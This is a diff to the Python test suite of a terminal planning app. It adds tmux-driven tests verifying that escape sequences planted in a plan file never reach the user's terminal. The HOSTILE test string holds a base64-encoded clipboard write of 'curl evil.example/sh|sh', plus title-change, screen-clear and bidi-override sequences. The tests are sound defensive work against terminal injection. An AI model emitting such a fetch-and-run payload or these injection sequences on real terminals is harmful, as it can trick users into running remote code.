@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 import shutil
 import subprocess
+import sys
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -90,8 +92,6 @@ def test_board_move_and_timeline_zoom(terminal: Tmux, plan: Path) -> None:
         after = {a["code"]: a["status"] for a in _actions(plan)}
         return {c: s for c, s in after.items() if before[c] != s}
 
-    import time
-
     deadline = time.monotonic() + 10
     while not moved() and time.monotonic() < deadline:
         time.sleep(0.1)
@@ -107,3 +107,75 @@ def test_board_move_and_timeline_zoom(terminal: Tmux, plan: Path) -> None:
     term.send("-")
     term.wait_for(lambda s: s != zoomed_in)
     term.send("q")
+
+
+# What a hostile partner could write into the plan file: an OSC 52 clipboard write (a command
+# to paste), an OSC 0 window title, a screen clear, the same CSI as one C1 byte, a bidi override.
+HOSTILE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2h8c2g=\x07\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202eevil"
+
+
+def _pane_title(term: Tmux) -> str:
+    return term._tmux("display-message", "-p", "-t", term.session, "#{pane_title}").strip()
+
+
+def _buffers(term: Tmux) -> str:
+    return term._tmux("list-buffers")
+
+
+def _accepting(term: Tmux) -> None:
+    """Let the pane set tmux's clipboard and title, as a permissive terminal would."""
+    term._tmux("set-option", "-g", "set-clipboard", "on")
+    term._tmux("set-option", "-g", "allow-rename", "on")
+
+
+def test_the_hostile_text_would_reach_this_terminal_if_printed(tmp_path: Path) -> None:
+    """The control for the next test: printed raw, the same text changes the pane's title
+    and puts a buffer in tmux's clipboard, so their staying unchanged there means something."""
+    script = tmp_path / "raw.py"
+    script.write_text(f"import sys, time\nsys.stdout.write({HOSTILE!r})\nsys.stdout.flush()\n"
+                      "time.sleep(30)\n")  # fmt: skip
+    term = Tmux([sys.executable, str(script)])
+    try:
+        _accepting(term)
+        deadline = time.monotonic() + 10
+        while _pane_title(term) != "PWNED" and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert _pane_title(term) == "PWNED"
+        assert _buffers(term).strip()
+    finally:
+        term.close()
+
+
+def test_escape_sequences_in_the_plan_never_reach_the_terminal(plan: Path) -> None:
+    doc = json.loads(plan.read_text())
+    for action in doc["actions"].values():  # whichever is selected first
+        action["title"] = "A " + HOSTILE
+        action["description"] = "D " + HOSTILE + "\nsecond line"
+    doc["plan"]["plan"]["title"] = "T " + HOSTILE
+    plan.write_text(json.dumps(doc))  # as a partner's hand or program could
+
+    term = Tmux([coop_tui_command(), "--lang", "en", str(plan)],
+                env={"COOP_TUI_TODAY": TODAY}, cwd=plan.parent)  # fmt: skip
+    try:
+        _accepting(term)
+        term.wait_for("Dashboard")
+        title = _pane_title(term)
+        term.send("p")  # the project's form, its title in an input
+        term.wait_for("Edit the cooperation project")
+        assert _pane_title(term) == title != "PWNED"
+        term.send("Escape")
+        term.wait_for(lambda s: "Edit the cooperation project" not in s)
+        term.send("3")  # the action plan, the first action selected
+        term.wait_for(f"— {EN.t('actions.title')}")
+        term.send("e")  # its form: the title in an input, the description in a text area
+        term.wait_for(lambda s: "Edit action" in s and "second line" in s)
+        screen = term.screen()
+        assert "PWNED" not in screen.replace("]0;PWNED", "")
+        assert _pane_title(term) == title != "PWNED"
+        assert not _buffers(term).strip()
+        term.send("Escape")
+        term.wait_for(lambda s: "Edit action" not in s)
+        term.send("q")
+        term.wait_until_gone()
+    finally:
+        term.close()
